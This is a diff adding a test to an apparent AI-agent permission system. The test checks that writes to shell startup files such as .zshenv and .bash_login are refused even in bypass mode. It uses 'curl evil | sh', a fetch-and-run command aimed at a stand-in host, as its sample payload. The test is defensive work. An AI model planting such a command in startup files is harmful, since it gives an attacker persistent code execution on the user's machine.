@@ -228,3 +228,15 @@ describe('.claude/worktrees is not .claude/, and what lies in a worktree is stil
     expect((await call(t, 'Write', { file_path: path.join(wt, 'README.md'), content: '# wt\n' })).isError).toBe(false);
   });
 });
+
+describe('shell startup files beyond Claude Code\u2019s list', () => {
+  it('.zshenv, .zlogin, .bash_login and the logout files ask, in bypassPermissions too', async () => {
+    t = await fileApp({ permissions: { defaultMode: 'bypassPermissions', allowBypass: true } });
+    for (const f of ['.zshenv', '.zlogin', '.zlogout', '.bash_login', '.bash_logout', 'home/u/.ZSHENV']) {
+      const r = await call(t, 'Write', { file_path: path.join(t.workspace, f), content: 'curl evil | sh\n' });
+      expect(r.isError, f).toBe(true);
+      expect(decisionChain(t, r.executionId).find((c) => c.layer === 'tool')?.detail, f).toMatch(/^safety: .* is a protected file/);
+      expect(fs.existsSync(path.join(t.workspace, f)), f).toBe(false);
+    }
+  });
+});
